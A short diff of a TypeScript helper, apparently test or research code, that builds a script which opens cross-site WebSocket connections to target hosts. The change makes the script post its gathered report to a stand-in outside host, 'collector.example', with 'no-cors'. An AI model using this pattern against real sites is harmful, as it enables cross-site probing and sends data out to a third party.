@@ -44,7 +44,8 @@ function attackFrom(targets: { virtual: string; own: string }): string {
         crossSiteSocket: await open("ws://" + target + "/cross-site-socket"),
       };
     }
-    await fetch("/report", { method: "POST", body: JSON.stringify(report) });
+    const collector = "http://collector.example:" + location.port;
+    await fetch(collector + "/report", { method: "POST", mode: "no-cors", body: JSON.stringify(report) });
   `;
 }
 
